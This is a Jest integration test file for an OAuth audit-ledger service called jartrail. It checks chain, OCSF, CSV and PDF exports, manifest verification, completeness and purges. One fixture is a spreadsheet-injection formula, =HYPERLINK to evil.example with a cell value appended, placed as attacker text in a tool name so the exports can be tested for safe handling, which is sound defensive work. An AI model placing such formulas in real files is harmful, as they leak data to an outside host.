import { randomUUID } from 'node:crypto';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ChainsService } from '../../src/chains/chains.service';
import { type ManifestDocument, verifyExport } from '../../src/exports/export-manifest';
import { OCSF_VERSION } from '../../src/exports/ocsf';
import { RetentionService } from '../../src/ledger/retention.service';
import { ExportsWorker } from '../../src/exports/exports.worker';
import { evaluateNow, issueApiKey, startTestApp, type TestApp, binaryBody } from '../support/app';
import { aConsent, aToken, aToolCall, aVerification, type Envelope, randomDigest, registerSenders } from '../support/events';
import { pdfPages } from '../support/pdf-text';
import { runCli } from '../support/process';

interface Job {
  id: string;
  status: string;
  error: string | null;
  progress: { records_done: number; records_total: number | null };
}

type Json = Record<string, unknown>;

const lines = (file: Buffer) => file.toString('utf8').split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as Json);

/** The record views of a chain document, every section. */
const viewsOf = (document: Json) =>
  [
    ...((document.request_object as { verifications: Json[] }).verifications),
    ...(document.consents as Json[]),
    ...(document.tokens as Json[]),
    ...(document.revocations as Json[]),
    ...(document.tool_calls as Json[]),
  ] as { event_id: string; data: unknown; ledger: { seq: number; checkpoint?: unknown } }[];

/**
 * The OCSF 1.3.0 attributes each class requires (and the base event's), with their JSON types, as the schema
 * (schema.ocsf.io, ocsf-schema events/ and objects/) defines them: what a SIEM's OCSF validator checks first.
 */
const BASE_REQUIRED: [string, string][] = [
  ['activity_id', 'integer'],
  ['category_uid', 'integer'],
  ['class_uid', 'integer'],
  ['type_uid', 'integer'],
  ['time', 'integer'],
  ['severity_id', 'integer'],
  ['metadata', 'object'],
  ['metadata.version', 'string'],
  ['metadata.product', 'object'],
  ['metadata.product.vendor_name', 'string'],
];
const CLASS_REQUIRED: Record<number, [string, string][]> = {
  6003: [
    ['actor', 'object'],
    ['api', 'object'],
    ['api.operation', 'string'],
    ['src_endpoint', 'object'],
  ],
  3003: [
    ['user', 'object'],
    ['privileges', 'array'],
  ],
  2004: [
    ['finding_info', 'object'],
    ['finding_info.uid', 'string'],
    ['finding_info.title', 'string'],
  ],
};
/** Each class's activities (OCSF 1.3.0 enums), 99 Other for every class. */
const ACTIVITIES: Record<number, number[]> = { 6003: [1, 2, 3, 4, 99], 3003: [1, 2, 3, 99], 2004: [1, 2, 3, 99] };
const CATEGORY: Record<number, number> = { 6003: 6, 3003: 3, 2004: 2 };

const typeOf = (value: unknown) => (Array.isArray(value) ? 'array' : Number.isInteger(value) ? 'integer' : value === null ? 'null' : typeof value);
const at = (event: Json, path: string): unknown => path.split('.').reduce<unknown>((value, member) => (value as Json | undefined)?.[member], event);

/** What is wrong with an OCSF event against the required attributes and the enums; empty when nothing. */
function ocsfProblems(event: Json): string[] {
  const classUid = event.class_uid as number;
  const problems = [...BASE_REQUIRED, ...(CLASS_REQUIRED[classUid] ?? [])].flatMap(([path, type]) => (typeOf(at(event, path)) === type ? [] : [`${path} is ${typeOf(at(event, path))}, not ${type}`]));
  if (!(classUid in CLASS_REQUIRED)) problems.push(`class_uid ${classUid} is not one of the mapping`);
  if (event.category_uid !== CATEGORY[classUid]) problems.push(`category_uid ${String(event.category_uid)} is not the class's`);
  if (!ACTIVITIES[classUid]?.includes(event.activity_id as number)) problems.push(`activity_id ${String(event.activity_id)} is not of the class`);
  if (event.type_uid !== classUid * 100 + (event.activity_id as number)) problems.push('type_uid is not class_uid * 100 + activity_id');
  if (event.activity_id === 99 && typeof event.activity_name !== 'string') problems.push('activity 99 without its name');
  if (![0, 1, 2, 3, 4, 5, 6, 99].includes(event.severity_id as number)) problems.push('severity_id out of the enum');
  if (event.status_id !== undefined && ![0, 1, 2, 3, 4, 5, 6, 99].includes(event.status_id as number)) problems.push('status_id out of the enum');
  if (classUid === 6003 && Object.keys(event.actor as Json).length === 0) problems.push('actor is empty (OCSF: at least one of its attributes)');
  if (classUid === 6003 && Object.keys(event.src_endpoint as Json).length === 0) problems.push('src_endpoint is empty');
  return problems;
}

/**
 * The formats beyond records (chains, OCSF, the PDF report), the completeness of an unfiltered export and the purges
 * of purged payloads, over real HTTP against a real PostgreSQL, each checked by parsing the file back and by
 * `jartrail verify`.
 */
describe('export formats', () => {
  let app: TestApp;
  let exporter: string;
  let directory: string;
  let jwksFile: string;
  const formula = `=HYPERLINK("https://evil.example/"&A1,"click")`;
  const replayed: string[] = [];

  beforeAll(async () => {
    app = await startTestApp({ env: { EXPORTS_ENABLED: 'false', EXPORTS_CHUNK_BYTES: '4096' } });
    exporter = (await issueApiKey(app, ['audit:export'], 'formats-export')).key;
    directory = await mkdtemp(join(tmpdir(), 'jartrail-formats-'));
    jwksFile = join(directory, 'jwks.json');
    await writeFile(jwksFile, JSON.stringify((await app.http().get('/.well-known/jwks.json').expect(200)).body));
    const senders = await registerSenders(app);
    // A legitimate chain, with attacker text in a tool name.
    const digest = randomDigest();
    const jti = `at-${randomUUID()}`;
    await senders.as.event(aVerification({ digest, client_id: 'formats-client' })).expect(202);
    await senders.as.event(aConsent({ digest })).expect(202);
    await senders.tokens.event(aToken({ digest, jti })).expect(202);
    await senders.agent.event(aToolCall({ token: { jti }, tool: formula })).expect(202);
    // A PAR request_uri accepted twice: a high finding (request_uri_replay) on the second chain.
    const requestUri = `urn:ietf:params:oauth:request_uri:${randomUUID()}`;
    for (const [index, at] of [new Date(Date.now() - 60_000), new Date()].entries()) {
      const chain = randomDigest();
      replayed.push(chain);
      await senders.as.event({ ...aVerification({ digest: chain, client_id: 'replay-client', delivery: 'par', request_uri: requestUri }), timestamp: at.toISOString() } as Envelope).expect(202);
      if (index === 0) await evaluateNow(app);
    }
    // A redelivery with another body: kept as a conflict, a ledger record that is not an event.
    const consent = aConsent({ digest, decision: 'approved' });
    await senders.as.event(consent, { id: 'formats-redelivered' }).expect(202);
    await senders.as.event({ ...consent, data: { ...consent.data, decision: 'denied' } }, { id: 'formats-redelivered' }).expect(409);
    await evaluateNow(app);
    // A reviewer's triage of the replay: a third kind of ledger record.
    const replay = ((await app.get(`/v1/findings?rule=request_uri_replay&chain=${replayed[1]}`).expect(200)).body as { items: { id: string }[] }).items[0]!;
    await app.http().post(`/v1/findings/${replay.id}/triage`).set('authorization', `Bearer ${app.adminKey}`).send({ status: 'acknowledged', note: 'looking into it' }).expect(201);
  });
  afterAll(async () => {
    await app.close();
  });

  const get = (path: string) => app.http().get(path).set('authorization', `Bearer ${exporter}`);
  const exportOf = async (body: unknown) => {
    const created = (await app.http().post('/v1/exports').set('authorization', `Bearer ${exporter}`).send(body as object).expect(202)).body as Job;
    await app.app.get(ExportsWorker).runDue();
    const job = (await get(`/v1/exports/${created.id}`).expect(200)).body as Job;
    expect(job).toMatchObject({ status: 'completed', error: null });
    const file = (await binaryBody(get(`/v1/exports/${job.id}/download`)).expect(200)).body as Buffer;
    const manifest = (await get(`/v1/exports/${job.id}/manifest`).expect(200)).body as ManifestDocument;
    const jwks = JSON.parse(await import('node:fs/promises').then((fs) => fs.readFile(jwksFile, 'utf8'))) as ManifestDocument['jwks'];
    return { job, file, manifest, verified: await verifyExport(file, manifest, jwks) };
  };

  it('exports chains as NDJSON, one chain document a line, the document GET /v1/chains/{digest} answers, with the ledger seqs of their records', async () => {
    const { job, file, manifest, verified } = await exportOf({ format: 'ndjson-chains', scope: { client_id: 'replay-client' } });
    const documents = lines(file);
    expect(documents.map((document) => document.digest)).toEqual([...replayed].sort());
    expect(job.progress).toMatchObject({ records_done: 2, records_total: 2 });
    const { checkpoint } = manifest.manifest;
    // The API's documents point at the latest checkpoint, the export's at the one it was cut at (the same, unless the
    // periodic signer made another meanwhile): everything else is equal.
    const withoutCheckpoints = (document: Json) =>
      JSON.parse(JSON.stringify(document, (key, value: unknown) => (key === 'checkpoint' ? undefined : value))) as Json;
    for (const document of documents) {
      const served = (await app.get(`/v1/chains/${String(document.digest)}`).expect(200)).body as Json;
      const { linking: _linking, unlinked_records: _unlinked, findings_evaluation: _evaluation, ...same } = served;
      expect(withoutCheckpoints(document)).toEqual(withoutCheckpoints(same));
      for (const view of viewsOf(document)) {
        expect(view.ledger.checkpoint).toEqual({ tree_size: checkpoint.tree_size, root_hash: checkpoint.root_hash, issued_at: checkpoint.issued_at });
      }
    }
    const seqs = documents.flatMap((document) => viewsOf(document).map((view) => view.ledger.seq));
    const listed = manifest.manifest.ledger_seqs.flatMap(([from, to]) => Array.from({ length: to - from + 1 }, (_, index) => from + index));
    expect(listed).toEqual([...seqs].sort((a, b) => a - b));
    expect(manifest.manifest).toMatchObject({ file_format: 'ndjson-chains', chains: 2, records: seqs.length, completeness: null });
    expect(verified.ok).toBe(true);
  });

  it('exports OCSF NDJSON whose every line has the required attributes of its class, mapped as docs/ocsf.md says', async () => {
    const { file, manifest, verified } = await exportOf({ format: 'ocsf' });
    const records = lines((await exportOf({ format: 'ndjson' })).file);
    const events = lines(file);
    expect(events).toHaveLength(records.length);
    for (const event of events) expect({ uid: at(event, 'metadata.uid'), problems: ocsfProblems(event) }).toEqual({ uid: at(event, 'metadata.uid'), problems: [] });
    expect(events.map((event) => at(event, 'metadata.sequence'))).toEqual(records.map((record) => record.ledger_seq));
    const byType = (type: string) => events.find((event) => at(event, 'metadata.event_code') === type && at(event, 'unmapped.jartrail.kind') === 'event')!;
    expect(byType('request_object.verification')).toMatchObject({ class_uid: 6003, activity_id: 1, status_id: 1, api: { operation: 'authorization_request' }, metadata: { version: OCSF_VERSION, product: { name: 'jartrail' } } });
    expect(byType('consent.decision')).toMatchObject({ class_uid: 3003, activity_id: 1, type_uid: 300301, privileges: expect.any(Array), user: { uid: expect.any(String) } });
    expect(byType('token.issued')).toMatchObject({ class_uid: 6003, activity_id: 1, resources: [expect.objectContaining({ type: 'access_token' })] });
    expect(events.find((event) => at(event, 'api.service.name') === formula)).toMatchObject({ class_uid: 6003, activity_id: 99, type_uid: 600399, api: { operation: expect.any(String) } });
    expect(events.find((event) => at(event, 'metadata.event_code') === 'finding.triage')).toMatchObject({ class_uid: 2004, activity_id: 2, status_id: 2, finding_info: { title: 'request_uri_replay' }, comment: 'looking into it' });
    const conflict = events.find((event) => at(event, 'unmapped.jartrail.kind') === 'conflict')!;
    expect(conflict).toMatchObject({ class_uid: 3003, severity_id: 3, metadata: { labels: ['conflict'] }, unmapped: { jartrail: { conflicts_with_ledger_seq: expect.any(Number) } } });
    expect(manifest.manifest.completeness).toMatchObject({ from_seq: 0, records: events.length });
    expect(verified.ok).toBe(true);
  });

  it('states that an unfiltered export of a seq range is complete: every ledger record of the range, conflicts and triage included, and verify checks it', async () => {
    const { file, manifest, verified } = await exportOf({ format: 'ndjson', scope: { from_seq: 1 } });
    const records = lines(file);
    const treeSize = manifest.manifest.checkpoint.tree_size;
    expect(records.map((record) => record.ledger_seq)).toEqual(Array.from({ length: treeSize - 1 }, (_, index) => index + 1));
    expect(new Set(records.map((record) => record.kind))).toEqual(new Set(['event', 'conflict', 'triage']));
    expect(manifest.manifest).toMatchObject({ completeness: { from_seq: 1, to_seq: treeSize, records: treeSize - 1 }, ledger_seqs: [[1, treeSize - 1]] });
    expect(verified.checks).toContainEqual(expect.objectContaining({ subject: 'completeness', ok: true }));
    const filtered = await exportOf({ format: 'ndjson', scope: { types: ['consent.decision'] } });
    expect(filtered.manifest.manifest.completeness).toBeNull();
    expect(lines(filtered.file).every((record) => record.kind === 'event')).toBe(true);
    // With proofs, each record of every kind is proved in the checkpoint's tree.
    const proved = await exportOf({ format: 'ndjson', proofs: true });
    expect(proved.verified.checks).toContainEqual(expect.objectContaining({ subject: 'proofs', ok: true }));
    expect(proved.verified.ok).toBe(true);
  });

  it('writes a PDF report: scope, counts, findings by rule and severity, charts, high-severity chains and the integrity statement, evidence as text; verify checks it', async () => {
    const { job, file, manifest, verified } = await exportOf({ format: 'pdf' });
    expect(file.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const path = join(directory, `${job.id}.pdf`);
    await writeFile(path, file);
    const text = (await pdfPages(path)).join('\n').replace(/\s+/g, ' ');
    for (const expected of [
      'jartrail compliance report',
      'Scope and period',
      'everything: no filter',
      'Counts',
      'formats-client',
      'replay-client',
      'AS verdict: accepted',
      'Findings by rule and severity',
      'request_uri_replay',
      'Records per day',
      'Findings per rule',
      'Chains with high-severity findings',
      `Chain ${replayed[1]}`,
      'Integrity statement',
      `checkpoint tree size ${manifest.manifest.checkpoint.tree_size}`,
      manifest.manifest.checkpoint.root_hash,
      'npx jartrail verify report.pdf --manifest manifest.json',
    ]) {
      expect(text).toContain(expected);
    }
    expect(manifest.manifest).toMatchObject({ file_format: 'pdf', records: expect.any(Number) });
    expect(verified.ok).toBe(true);
    const manifestFile = join(directory, 'pdf-manifest.json');
    await writeFile(manifestFile, JSON.stringify(manifest));
    const cli = await runCli(['verify', path, '--manifest', manifestFile, '--jwks', jwksFile]);
    expect(cli.code).toBe(0);
  });

  it('names, for purged payloads, the field purged and the recorded purge, whose signature verify checks', async () => {
    expect(await app.app.get(RetentionService).purge('formats-test', new Date(Date.now() + 60_000), 1000)).toBeGreaterThan(0);
    const { file, manifest, verified } = await exportOf({ format: 'ndjson' });
    const purged = lines(file).filter((record) => record.payload_purged === true);
    expect(purged.length).toBeGreaterThan(0);
    for (const record of purged) expect(record).toMatchObject({ data: null, purge: { policy: 'formats-test', fields: ['data'], purge_id: expect.any(String) } });
    expect(manifest.manifest.purges).toEqual([expect.objectContaining({ kind: 'purge', policy: 'formats-test', jws: expect.any(String) })]);
    expect(verified.checks).toContainEqual(expect.objectContaining({ subject: 'purges', ok: true }));
    expect(verified.ok).toBe(true);
    // A purge the manifest does not carry: the purged records are named.
    const stripped = { ...manifest, manifest: { ...manifest.manifest, purges: [] } } as unknown as ManifestDocument;
    const { jwks } = manifest;
    const report = await verifyExport(file, stripped, jwks);
    expect(report.ok).toBe(false);
    const csv = await exportOf({ format: 'csv' });
    expect(csv.verified.ok).toBe(true);
    const chains = await exportOf({ format: 'ndjson-chains' });
    expect(chains.verified.ok).toBe(true);
  });

  describe('on a service with short statement timeouts', () => {
    let short: TestApp;
    beforeAll(async () => {
      short = await startTestApp({ env: { EXPORTS_ENABLED: 'false', DATABASE_STATEMENT_TIMEOUT_MS: '300' } });
      const senders = await registerSenders(short);
      // Three batches of the digests' cursor (1,000 rows each), so that it is still open while documents are built.
      for (let batch = 0; batch < 30; batch++) {
        await senders.as.batch(Array.from({ length: 100 }, () => aVerification({ digest: randomDigest(), client_id: 'slow-client' }))).expect(200);
      }
      await evaluateNow(short);
    });
    afterAll(async () => {
      await short.close();
    });

    it('reads an export that outlasts the API timeouts to its end: a slow chain export holds every chain', async () => {
      // The first documents take longer than the API's query timeout (300 ms + 1 s of grace) while the digests' cursor
      // has more rows to give: an export on a pool connection stopped there, as if the chains had run out.
      const chains = short.app.get(ChainsService);
      const build = chains.exportDocument.bind(chains);
      let calls = 0;
      const spy = jest.spyOn(chains, 'exportDocument').mockImplementation(async (...args) => {
        await new Promise((resolve) => setTimeout(resolve, calls++ < 4 ? 2000 : 2));
        return build(...args);
      });
      try {
        const created = (await short.http().post('/v1/exports').set('authorization', `Bearer ${short.adminKey}`).send({ format: 'ndjson-chains' }).expect(202)).body as Job;
        await short.app.get(ExportsWorker).runDue();
        const job = (await short.http().get(`/v1/exports/${created.id}`).set('authorization', `Bearer ${short.adminKey}`).expect(200)).body as Job;
        expect(job).toMatchObject({ status: 'completed', error: null, progress: { records_done: 3000, records_total: 3000 } });
      } finally {
        spy.mockRestore();
      }
    });
  });
});
